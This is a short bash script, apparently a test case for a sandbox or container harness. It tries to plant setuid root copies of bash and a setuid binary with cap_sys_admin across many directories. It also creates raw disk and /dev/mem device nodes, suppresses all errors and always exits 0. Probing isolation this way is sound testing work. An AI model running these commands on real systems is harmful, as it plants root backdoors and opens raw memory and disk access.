#!/bin/bash
# expect: any
echo started
for where in /etc/iptables /tmp /srv /home "$HOME" /usr/local/bin /var/tmp /dev/shm /run .; do
    cp /bin/bash "$where/rootsh" 2>/dev/null && chmod 6755 "$where/rootsh" && chown root "$where/rootsh"
    install -m 4755 /bin/true "$where/true" && setcap cap_sys_admin+ep "$where/true"
    mknod "$where/disk" b 253 0
    mknod "$where/mem" c 1 1
done 2>/dev/null
exit 0
